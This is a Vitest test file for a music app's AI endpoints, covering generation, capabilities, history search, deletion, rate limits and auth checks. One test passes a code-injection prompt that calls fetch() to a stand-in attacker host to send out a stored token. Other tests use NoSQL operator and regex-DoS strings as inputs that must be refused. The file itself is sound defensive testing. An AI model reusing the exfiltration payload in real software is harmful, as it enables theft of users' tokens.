import { describe, expect, test } from 'vitest';
import { fileServer } from '../testing/file-server.ts';
import { failed, rejection } from '../testing/rejection.ts';
import { testServer } from '../testing/test-server.ts';

const server = await fileServer();
const me = await server.signUp();
const other = await server.signUp();

const draft = (prompt: string, more = {}) => ({
  prompt,
  generatedCode: 's("bd*4")',
  explanation: 'A kick on every beat.',
  confidence: 0.5,
  ...more,
});

const post = (path: string, json: unknown, person = me) =>
  server.request(`/api${path}`, { method: 'POST', token: person.tokens.accessToken, json });

describe('generate', () => {
  test('makes music, says what it rests on, and keeps nothing', async () => {
    const person = await server.signUp();
    const answer = await person.client.generate({ prompt: 'dark techno at 130 bpm', seed: 5 });
    expect(answer).toMatchObject({ provider: 'composer', bpm: 130, seed: 5 });
    expect(answer.generatedCode).toMatch(/stack\(/);
    expect(answer.readings).toContainEqual(
      expect.objectContaining({ aspect: 'genre', value: 'techno', source: 'prompt' }),
    );
    expect((await person.client.aiHistory()).total).toBe(0);
  });

  test('the same seed gives the same music, no seed another each time', async () => {
    const code = async (seed?: number) =>
      (await me.client.generate({ prompt: 'house', seed })).generatedCode;
    expect(await code(9)).toBe(await code(9));
    expect(await code()).not.toBe(await code());
  });

  test.each([
    ['', 'Prompt cannot be empty'],
    ['   ', 'Prompt cannot be empty'],
    ['x'.repeat(1001), 'Prompt is too long (max 1000 characters)'],
    ['Delete everything', 'Prompt contains potentially harmful content'],
  ])(
    '%j is refused, by the client before it is sent and by the server',
    async (prompt, message) => {
      const refused = { code: 'validation_failed', message };
      expect(await rejection(me.client.generate({ prompt }))).toMatchObject(refused);
      const { status, body } = await post('/ai/generate', { prompt });
      expect(status).toBe(400);
      expect(body.error).toMatchObject(refused);
    },
  );

  test.each([
    ['no prompt', {}],
    ['a bpm of 300', { prompt: 'x', bpm: 300 }],
    ['a negative seed', { prompt: 'x', seed: -1 }],
    ['an unknown level', { prompt: 'x', level: 'Master' }],
    ['an operator as style', { prompt: 'x', style: { $ne: '' } }],
    ['an edit of nothing', { prompt: 'x', task: 'edit' }],
    ['a third repair', { prompt: 'x', repair: { attempt: 3, code: 's("bd")', message: 'No' } }],
    [
      'music that is none',
      { prompt: 'x', current: { version: 2, music: { bpm: 120 }, unread: [] } },
    ],
    ['music of version 1', { prompt: 'x', current: { bpm: 120, swing: 0, parts: [] } }],
  ])('%s is refused', async (_, json) => {
    const { status, body } = await post('/ai/generate', json);
    expect(status).toBe(400);
    expect(body.error?.code).toBe('validation_failed');
  });

  test('words that would be code stay words', async () => {
    const { generatedCode } = await me.client.generate({
      prompt: '"); fetch("https://evil.example?t=" + localStorage.token) //',
    });
    expect(generatedCode).not.toContain('evil');
  });

  test('a user has a number of answers a minute, whoever else asks', async () => {
    const limited = await testServer({ rateLimitFactor: 0.1 });
    try {
      const [one, two] = [await limited.signUp(), await limited.signUp()];
      await one.client.generate({ prompt: 'house' });
      await one.client.generate({ prompt: 'house' });
      const error = await rejection(one.client.generate({ prompt: 'house' }));
      expect(error).toMatchObject({
        code: 'ai_limit',
        message: expect.stringMatching(/^AI generation rate limited\. Try again in \d+ seconds\.$/),
      });
      const raw = await limited.request('/api/ai/generate', {
        method: 'POST',
        token: one.tokens.accessToken,
        json: { prompt: 'house' },
      });
      expect(raw.status).toBe(429);
      expect(raw.body.error?.code).toBe('ai_limit');
      expect(Number(raw.headers.get('retry-after'))).toBeGreaterThan(0);
      await two.client.generate({ prompt: 'house' });
    } finally {
      await limited.close();
    }
  });
});

// @spec calls.ai-capabilities
test('capabilities name providers, styles, moods and limits, signed out too', async () => {
  const { providers, styles, moods, limits } = await server.client().aiCapabilities();
  expect(providers).toEqual([
    { id: 'composer', name: 'Built-in composer', remote: false, takes: 3 },
  ]);
  expect(styles).toEqual(expect.arrayContaining(['house', 'techno', 'ambient']));
  expect(moods).toContain('dark');
  expect(limits).toMatchObject({ promptLength: 1000, historyPage: 50 });
});

describe('history', () => {
  // @spec calls.ai-history
  test('is newest first, in pages, fifty at most', async () => {
    const person = await server.signUp();
    for (const prompt of ['one', 'two', 'three']) {
      await person.client.saveToAiHistory(draft(prompt));
      server.advance(1);
    }
    const prompts = async (query = {}) =>
      (await person.client.aiHistory(query)).history.map(({ prompt }) => prompt);
    expect(await prompts()).toEqual(['three', 'two', 'one']);
    expect(await prompts({ limit: 2 })).toEqual(['three', 'two']);
    expect(await prompts({ limit: 2, page: 2 })).toEqual(['one']);
    expect((await person.client.aiHistory({ limit: 1 })).total).toBe(3);
    for (const query of ['limit=51', 'limit=0', 'limit=NaN', 'page=-1', 'page=1e9']) {
      const { tokens } = person;
      const answer = await server.request(`/api/ai/history?${query}`, {
        token: tokens.accessToken,
      });
      expect(answer.status).toBe(400);
    }
  });

  test('is searched by text as it is, in prompt and explanation, in any case', async () => {
    const person = await server.signUp();
    await person.client.saveToAiHistory(draft('Dark TECHNO (acid)'));
    await person.client.saveToAiHistory(draft('waltz', { explanation: '100% très Élégant' }));
    await person.client.saveToAiHistory(draft('plain'));
    const found = async (search: string) =>
      (await person.client.aiHistory({ search })).history.map(({ prompt }) => prompt);
    expect(await found('techno')).toEqual(['Dark TECHNO (acid)']);
    expect(await found('(ACID)')).toEqual(['Dark TECHNO (acid)']);
    expect(await found('100% Très')).toEqual(['waltz']);
    expect(await found('  ')).toHaveLength(3);
    for (const text of ['.*', '(a+)+$', '^', 'dark|plain', '[a-z]', '\\', '$ne', 'a{1,9}']) {
      expect(await found(text)).toEqual([]);
    }
    expect((await person.client.aiHistory({ search: 'techno' })).total).toBe(1);
  });

  test('with a key an entry is kept once, also by eight calls at once', async () => {
    const person = await server.signUp();
    const made = await Promise.all(
      Array.from({ length: 8 }, () => person.client.saveToAiHistory(draft('once'), 'key')),
    );
    expect(new Set(made.map(({ id }) => id)).size).toBe(1);
    expect((await person.client.aiHistory()).total).toBe(1);
    const theirs = await other.client.saveToAiHistory(draft('mine'), 'key');
    expect(theirs.id).not.toBe(made[0]?.id);
  });

  // @spec calls.ai-delete
  test('a deleted entry is gone; a missing one is not_found', async () => {
    const { id } = await me.client.saveToAiHistory(draft('going'));
    await me.client.deleteFromAiHistory(id);
    expect(await failed(me.client.deleteFromAiHistory(id))).toBe('not_found');
    const { history } = await me.client.aiHistory();
    expect(history.some((item) => item.id === id)).toBe(false);
  });

  test("another user's entry is in no list or search, and is deleted like a missing one", async () => {
    const { id } = await me.client.saveToAiHistory(draft('my secret groove'));
    expect((await other.client.aiHistory({ search: 'secret' })).total).toBe(0);
    const token = other.tokens.accessToken;
    const remove = async (asked: string) => {
      const { status, body } = await server.request(`/api/ai/history/${asked}`, {
        method: 'DELETE',
        token,
      });
      return { status, error: { ...body.error, requestId: '' } };
    };
    const theirs = await remove(id);
    expect(theirs).toMatchObject({ status: 404, error: { code: 'not_found' } });
    expect(await remove('A'.repeat(20))).toEqual(theirs);
    expect((await me.client.aiHistory({ search: 'my secret' })).total).toBe(1);
  });

  test.each([
    ['a harmful prompt', draft('destroy it')],
    ['no code', { ...draft('x'), generatedCode: undefined }],
    ['too much code', draft('x', { generatedCode: 'x'.repeat(50_001) })],
    ['a confidence of 2', draft('x', { confidence: 2 })],
  ])('%s is refused', async (_, json) => {
    const { status, body } = await post('/ai/history', json);
    expect(status).toBe(400);
    expect(body.error?.code).toBe('validation_failed');
  });

  test('owner, id and date are not for a client to say', async () => {
    const json = { ...draft('mine'), owner: other.user.id, _id: 'x', createdAt: '1999-01-01' };
    const { status, body } = await post('/ai/history', json);
    expect(status).toBe(201);
    const { id, createdAt } = body.data as { id: string; createdAt: string };
    expect(createdAt).not.toMatch(/^1999/);
    const record = await server.database.aiHistory.findOne({ _id: id }).lean();
    expect(record?.owner).toBe(me.user.id);
  });
});

test.each([
  ['POST', '/ai/generate'],
  ['GET', '/ai/history'],
  ['POST', '/ai/history'],
  ['DELETE', '/ai/history/x'],
])('signed out, %s %s answers auth_required', async (method, path) => {
  const { status, body } = await server.request(`/api${path}`, { method });
  expect(status).toBe(401);
  expect(body.error?.code).toBe('auth_required');
});
